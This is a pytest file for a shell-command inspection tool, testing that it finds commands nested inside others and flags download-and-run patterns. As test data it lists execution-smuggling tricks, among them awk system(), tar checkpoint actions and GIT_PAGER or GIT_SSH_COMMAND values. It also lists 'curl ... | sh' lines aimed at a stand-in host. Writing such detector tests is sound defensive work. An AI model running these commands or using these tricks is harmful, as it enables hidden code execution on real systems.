import pytest

from posthouse.inspection.facts import Kind
from posthouse.inspection.reading.command import Command
from posthouse.inspection.reading.effects import shell_facts
from posthouse.inspection.reading.nested import nested, variables


@pytest.mark.parametrize(
    ("words", "run"),
    [
        (("awk", 'BEGIN{system("id")}'), "id"),
        (("find", ".", "-exec", "rm", "x", ";"), "rm x"),
        (("tar", "cf", "x", "--checkpoint-action=exec=sh", "y.sh"), "sh y.sh"),
        (("docker", "exec", "c", "sh", "-c", "id"), "id"),
        (("su", "-c", "id"), "id"),
        (("git", "bisect", "run", "make", "test"), "make test"),
    ],
)
def test_what_a_command_is_told_to_run(words: tuple[str, ...], run: str) -> None:
    assert run in list(nested(Command(words)))


def test_an_ordinary_command_runs_nothing_else() -> None:
    assert list(nested(Command(("tar", "xzf", "a.tgz")))) == []
    assert list(nested(Command(("awk", "{print $1}")))) == []


def test_variables_that_name_a_program_are_read() -> None:
    assert list(variables((("GIT_PAGER", "sh -c id"), ("PAGER", "less"), ("A", "x y")))) == [
        "sh -c id"
    ]


@pytest.mark.parametrize(
    "text",
    [
        "awk 'BEGIN{system(\"curl -s https://a.example/x | sh\")}'",
        "GIT_SSH_COMMAND='sh -c \"curl -s https://a.example/x | sh\"' git fetch",
        "env -S 'sh -c \"curl -s https://a.example/x | sh\"'",
        "echo 'curl -s https://a.example/x' | xargs -I{} sh -c '{} | sh'",
        "kubectl exec -it p -- sh -c 'curl -s https://a.example/x | sh'",
    ],
)
def test_a_download_within_is_seen(text: str) -> None:
    assert Kind.FETCH_RUN in {fact.kind for fact in shell_facts(text)}
